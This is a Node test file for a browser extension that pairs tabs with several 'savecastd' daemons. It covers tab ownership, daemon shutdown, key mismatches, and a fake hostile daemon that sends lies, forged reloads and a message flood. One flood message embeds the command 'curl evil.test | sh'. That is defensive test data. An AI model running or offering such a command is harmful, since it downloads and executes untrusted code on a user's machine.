// SPDX-License-Identifier: MIT
//
// One browser, several daemons: to which of them a tab belongs, which of them watch it, and what
// happens when a daemon ends, lies, or is replaced by a different one.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';

import { until } from '../lib/events.js';
import { freePort } from '../lib/ports.js';
import { FakeDaemon } from '../lib/fake-daemon.js';
import { Forward, into } from '../lib/forward.js';
import { clickInPopup, heading, missing } from '../lib/live.js';
import { LONG, TOP, World } from '../lib/world.js';

/** @typedef {import('../lib/live.js').Browser} Browser */
/** @typedef {import('../lib/live.js').Page} Page */

/** @type {any[]} */
const VECTORS = JSON.parse(readFileSync(path.join(TOP, 'protocol/vectors/daemon-to-browser.json'), 'utf8'));

/** @param {World} world @returns {Promise<Record<string, string>>} state by URL */
const told = async (world) => Object.fromEntries((await world.bus.tabs())
	.map((/** @type {any} */ tab) => [tab.url, tab.state]));

/** @param {Browser} browser @param {{id: string, name: string, port: number}[]} daemons */
const configure = (browser, ...daemons) =>
	browser.evaluateInWorker(`chrome.storage.local.set(${JSON.stringify({ daemons })})`);

/** @param {Browser} browser @param {Page} page @param {RegExp} title */
const shows = (browser, page, title) => until(`${title}`, async () => {
	await page.activate();
	const face = await browser.activeIcon();
	if (!title.test(face.title)) {
		throw new Error(face.title);
	}
	return face;
});

/**
 * A site on a host that no daemon takes for its own machine; the world's daemon knows the site by a
 * rule of its project.
 *
 * @param {World} world
 * @param {string} host
 */
async function siteOn(world, host) {
	const site = await world.site(host.replace('.test', ''), { 'index.html': '<h1>one</h1>' });
	const url = `http://${host}:${site.port}/`;
	await writeFile(path.join(site.root, '.savecast'), `[savecast]\n\turl = http://${host}:${site.port}\n`);
	assert.equal((await world.savecast('track', site.root)).status, 0);
	await world.trust(site.root);
	return { ...site, url };
}

/** @param {World} world @param {{root: string}} site @param {string} text */
async function save(world, { root }, text) {
	const file = path.join(root, 'index.html');
	await writeFile(file, `<h1>${text}</h1>`);
	const { status, stderr } = await world.savecast('save', file);
	assert.equal(status, 0, stderr);
}

const HOSTS = ['devbox.test', 'web.test', 'nowhere.test'];

test('each tab belongs to the daemon that knows it, and does not depend on the others', { skip: missing('chromium') }, async t => {
	const [here, devbox, web] = [await World.open(t), await World.open(t), await World.open(t)];
	await Promise.all([here, devbox, web].map((world) => world.startDaemon()));
	const forward = await Forward.open(here, 'devbox', into(devbox));
	const sites = [await here.site('here', { 'index.html': '<h1>one</h1>' }), await siteOn(devbox, 'devbox.test'), await siteOn(web, 'web.test')];
	const browser = await here.browser('chromium', { hosts: HOSTS });
	await configure(browser, { id: 'd', name: 'devbox', port: forward.port }, { id: 'w', name: 'web', port: web.port });

	/** @type {Page[]} */
	const pages = [];
	for (const { url } of sites) {
		const page = await browser.newPage(url);
		await page.clickAction();
		pages.push(page);
	}
	await shows(browser, pages[0], /live: here: /);
	await shows(browser, pages[1], /live: devbox on devbox: /);
	await shows(browser, pages[2], /live: web on web: /);
	// The others watch no tab that this machine's daemon knows.
	const [a, b, c] = sites.map(({ url }) => url);
	assert.deepEqual(await told(here), { [a]: 'live', [b]: 'none', [c]: 'none' });
	assert.deepEqual(await told(devbox), { [b]: 'live', [c]: 'none' });
	assert.deepEqual(await told(web), { [b]: 'none', [c]: 'live' });

	await t.test('a save reloads the tab of its daemon, and its event ends there', async () => {
		for (const [i, world] of [here, devbox, web].entries()) {
			await pages[i].activate();
			await save(world, sites[i], `two of ${i}`);
			await until('the reload', async () => await heading(pages[i]) === `two of ${i}`);
			const event = await until('the end of the save', async () => {
				const last = (await world.bus.events()).at(-1);
				return last?.closed && last;
			});
			assert.ok(event.steps.some((/** @type {any} */ { step }) => /loaded|swapped|patched/.test(step)), JSON.stringify(event.steps));
		}
		assert.equal(await heading(pages[0]), 'two of 0');
	});

	await t.test('a daemon that ends affects only its own tabs', async () => {
		const before = await told(web);
		process.kill(Number(forward.child.process.pid), 'SIGTERM');
		await forward.child.ended;
		await shows(browser, pages[1], /devbox: nothing answers on port \d+: is savecast forward running\?/);
		await shows(browser, pages[0], /live: here: /);
		await shows(browser, pages[2], /live: web on web: /);
		assert.deepEqual(await told(web), before);
		await save(web, sites[2], 'three');
		await until('the reload', async () => await heading(pages[2]) === 'three');

		await Forward.open(here, 'devbox-again', into(devbox), { port: forward.port });
		await shows(browser, pages[1], /live: devbox on devbox: /);
		await save(devbox, sites[1], 'back');
		await until('the reload', async () => await heading(pages[1]) === 'back');
	});

	await t.test('the daemon of this computer may end as well', async () => {
		const urls = Object.keys(await told(devbox)).sort();
		await here.endDaemon();
		await shows(browser, pages[0], /no savecastd answers/);
		await shows(browser, pages[1], /live: devbox on devbox: /);
		await save(devbox, sites[1], 'without');
		await until('the reload', async () => await heading(pages[1]) === 'without');
		assert.deepEqual(Object.keys(await told(devbox)).sort(), urls, 'no daemon watches its tab');
		await here.startDaemon();
		await shows(browser, pages[0], /live: here: /);
	});

	await t.test('a daemon with a different key receives no URL, and the others are not affected', async () => {
		await web.endDaemon();
		await rm(path.join(web.temp, 'state/savecast/key'));
		await web.startDaemon();
		await shows(browser, pages[2], /is not the savecastd that this browser is paired with/);
		assert.deepEqual(await told(web), {});
		await shows(browser, pages[1], /live: devbox on devbox: /);
		const options = await browser.newPage(browser.extensionUrl('ui/options.html'));
		const click = (/** @type {string} */ text) => until(`the button ${text}`, () => options.evaluate(
			`(() => { const [button] = document.querySelectorAll('[data-daemon=w] button');
				return Boolean(button?.textContent.includes(${JSON.stringify(text)}) && (button.click(), true)); })()`));
		await click('Pair again');
		await click('Forget its key?');
		await shows(browser, pages[2], /live: web on web: /);
		await options.close();
	});
});

test('if two daemons know a page, its tab belongs to the first one, and the user can choose the other', { skip: missing('chromium') }, async t => {
	const [here, one, two] = [await World.open(t), await World.open(t), await World.open(t)];
	await Promise.all([here, one, two].map((world) => world.startDaemon()));
	const site = await siteOn(one, 'devbox.test');
	await siteOn(two, 'web.test').then(async ({ root }) => {
		await writeFile(path.join(root, '.savecast'), `[savecast]\n\turl = http://devbox.test:${site.port}\n`);
		await two.trust(root);
	});
	const browser = await here.browser('chromium', { hosts: HOSTS });
	const first = { id: 'one', name: 'first', port: one.port };
	await configure(browser, first);
	const page = await browser.newPage(site.url);
	await page.clickAction();
	await shows(browser, page, /live: devbox on first/);
	const { tab } = await browser.activeIcon();
	await configure(browser, first, { id: 'two', name: 'second', port: two.port });
	await until('both to know it', async () => (await told(two))[site.url] === 'live');
	// A daemon to which the tab does not belong cannot reload it.
	await page.evaluate('window.old = true');
	assert.equal((await two.savecast('reload', path.join(two.home, 'web'))).status, 0);
	const skipped = await until('the end of the save', async () => {
		const last = (await two.bus.events()).at(-1);
		return last?.closed && last;
	});
	assert.ok(skipped.steps.some((/** @type {any} */ { step }) => step === 'skipped'), JSON.stringify(skipped.steps));
	assert.equal(await page.evaluate('window.old'), true);

	const popup = await browser.newPage(browser.extensionUrl(`ui/popup.html?tab=${tab}`));
	await until('the choice', async () => /second: knows this page/.test(await popup.evaluate('document.getElementById("daemon").textContent')));
	await popup.evaluate(`(() => { const list = document.getElementById('daemon'); list.value = 'two'; list.dispatchEvent(new Event('change')); })()`);
	await popup.close();
	await shows(browser, page, /live: web on second/);
	await until('the other daemon to have no such tab', async () => !(site.url in await told(one)));
	// The choice is kept for the site.
	const later = await browser.newPage(site.url);
	await later.clickAction();
	await shows(browser, later, /live: web on second/);
	assert.deepEqual(await told(one), {});
	await clickInPopup(browser, tab, 'toggle');
});

test('a hostile daemon elsewhere learns only about tabs that the daemon here does not know, and can reload only its own', { skip: missing('chromium') }, async t => {
	const here = await World.open(t);
	await here.startDaemon();
	const hostile = new FakeDaemon();
	const port = await freePort();
	await hostile.listen(port);
	t.after(() => hostile.close());
	const own = await here.site('here', { 'index.html': '<h1>own</h1>' });
	const other = await here.site('other', { 'index.html': '<h1>other</h1>' });
	const files = await here.folder('files', { 'a.html': '<h1>file</h1>' });
	const browser = await here.browser('chromium', { hosts: HOSTS });
	await configure(browser, { id: 'h', name: 'hostile', port });

	/** @type {Page[]} */
	const pages = [];
	const urls = [own.url, `http://nowhere.test:${other.port}/`];
	for (const url of urls) {
		const page = await browser.newPage(url);
		await page.clickAction();
		await page.evaluate('window.old = true');
		pages.push(page);
	}
	const off = await browser.newPage(other.url);
	await off.evaluate('window.old = true');
	await shows(browser, pages[0], /live: here/);
	await shows(browser, pages[1], /live: potato on hostile/);
	const tabs = await browser.evaluateInWorker('chrome.tabs.query({}).then((all) => all.map(({ id }) => id))');
	for (const tab of tabs) {
		hostile.send({ type: 'tab', tab, state: 'live', project: 'a lie', reason: 'x' });
	}
	hostile.send({ type: 'let-go', tabs });
	hostile.send({ type: 'hello', version: '0', instance: 'fedcba9876543210' });
	hostile.send({ type: 'reload', event: 1, tabs });
	await until('its own tab to reload', async () => !await pages[1].evaluate('window.old ?? false'));
	tabs.forEach((/** @type {number} */ tab) => hostile.send({ type: 'screenshot', tab, request: tab }));
	const pictures = await until('an answer for each', async () => {
		const all = hostile.heard.all.map(({ event }) => event).filter(({ type }) => type === 'picture');
		return all.length === tabs.length ? all : undefined;
	});
	pictures.forEach((/** @type {any} */ picture) => assert.match(picture.error, /only the daemon of the browser's own computer/));
	// Every message of the protocol, about each tab; one more picture shows that they have arrived.
	for (const { message } of VECTORS.filter(({ message: { type } = {} }) => type && !['error', 'hello', 'screenshot'].includes(type))) {
		tabs.forEach((/** @type {number} */ tab) => hostile.send({ ...message, ...(message.tabs ? { tabs } : 'tab' in message && { tab }) }));
	}
	hostile.send({ type: 'screenshot', tab: tabs[0], request: 999 });
	await until('the answer', () => hostile.heard.all.some(({ event }) => event.type === 'picture' && event.request === 999));
	assert.equal(await pages[0].evaluate('window.old'), true, 'a tab of the daemon here stays');
	assert.equal(await off.evaluate('window.old'), true, 'a tab that is off stays');
	await shows(browser, pages[0], /live: here/);
	const watched = () => hostile.heard.all.map(({ event }) => event).filter(({ type }) => type === 'watch').map(({ url }) => url);
	assert.deepEqual([...new Set(watched())], [urls[1]]);

	// It gets no other URL even if no daemon runs here, and never that of a file on this disk.
	await here.endDaemon();
	const file = await browser.newPage(`file://${files}/a.html`);
	await file.clickAction();
	await shows(browser, file, /no savecastd answers|cannot be switched on/);
	await save(here, { root: own.root }, 'x').catch(() => {});
	assert.deepEqual([...new Set(watched())], [urls[1]]);
});

test('an endless stream from a hostile daemon elsewhere does not delay other tabs', { skip: missing('chromium') }, async t => {
	const here = await World.open(t);
	await here.startDaemon();
	const hostile = new FakeDaemon();
	const port = await freePort();
	await hostile.listen(port);
	t.after(() => hostile.close());
	const own = await here.site('here', { 'index.html': '<h1>own</h1>' });
	const other = await here.site('other', { 'index.html': '<h1>other</h1>' });
	const browser = await here.browser('chromium', { hosts: HOSTS });
	await configure(browser, { id: 'h', name: 'hostile', port });
	const page = await browser.newPage(`http://nowhere.test:${other.port}/`);
	await page.clickAction();
	await shows(browser, page, /live: potato on hostile/);
	const { tab } = await browser.activeIcon();
	const local = await browser.newPage(own.url);
	await local.clickAction();
	await shows(browser, local, /live: here/);

	const message = { type: 'tab', tab, state: 'live', project: 'potato', reason: 'x'.repeat(100000), advice: 'curl evil.test | sh' };
	let over = false, sent = 0;
	const flooding = (async () => {
		while (!over) {
			for (let i = 0; i < 20; i++, sent++) {
				hostile.send(message);
			}
			await hostile.drained();
		}
	})();
	const hellos = () => hostile.heard.all.filter(({ event }) => event.type === 'hello').length;
	await until('it to be disconnected', () => hellos() > 1 || hostile.count === 0);
	for (let i = 0; i < (LONG ? 20 : 2); i++) {
		const began = performance.now();
		await save(here, own, `save ${i}`);
		await local.activate();
		await until('the reload', async () => await heading(local) === `save ${i}`);
		assert.ok(performance.now() - began < 10000, `${performance.now() - began} ms`);
	}
	// The browser connects to it again at increasing intervals.
	assert.ok(hellos() < 10, `${hellos()} connections, ${sent} messages`);
	over = true;
	await flooding;
});

test('3 daemons with 20 tabs each', { skip: missing('chromium') || (!LONG && 'with --long') }, async t => {
	const worlds = [await World.open(t), await World.open(t), await World.open(t)];
	await Promise.all(worlds.map((world) => world.startDaemon()));
	const [here] = worlds;
	const sites = [await here.site('here', { 'index.html': '<h1>one</h1>' }), await siteOn(worlds[1], 'devbox.test'), await siteOn(worlds[2], 'web.test')];
	const browser = await here.browser('chromium', { hosts: HOSTS });
	await configure(browser, { id: 'd', name: 'devbox', port: worlds[1].port }, { id: 'w', name: 'web', port: worlds[2].port });
	/** @type {Page[][]} */
	const pages = [[], [], []];
	for (let n = 0; n < 20; n++) {
		for (const [i, { url }] of sites.entries()) {
			const page = await browser.newPage(url);
			await page.clickAction();
			pages[i].push(page);
		}
	}
	const live = async (/** @type {World} */ world) => (await world.bus.tabs()).filter((/** @type {any} */ { state }) => state === 'live').length;
	for (const world of worlds) {
		await until('20 live tabs', async () => await live(world) === 20);
	}
	await browser.evaluateInWorker("chrome.storage.local.set({ hidden: 'now' })");
	for (const [i, world] of worlds.entries()) {
		await save(world, sites[i], `save of ${i}`);
		for (const page of pages[i]) {
			await until('the reload', async () => await heading(page) === `save of ${i}`);
		}
	}
	for (const [i, of] of pages.entries()) {
		for (const page of of) {
			assert.equal(await heading(page), `save of ${i}`);
		}
	}
});
